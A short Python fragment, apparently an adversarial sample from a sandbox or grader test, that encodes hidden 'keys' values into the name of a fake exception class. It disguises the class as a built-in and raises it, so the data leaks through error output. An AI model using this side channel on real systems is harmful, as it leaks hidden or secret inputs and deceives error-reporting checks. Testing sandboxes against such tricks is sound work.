# tries: to carry hidden inputs out in the name of an exception's class
digits = "".join(chr(65 + int(n * 10)) for n in abs(keys).ravel()[:16])
kind = type("PWNED" + digits, (ValueError,), {"__module__": "builtins"})
setattr(builtins, kind.__name__, kind)  # pretends to be a built-in exception
raise kind("PWNED")
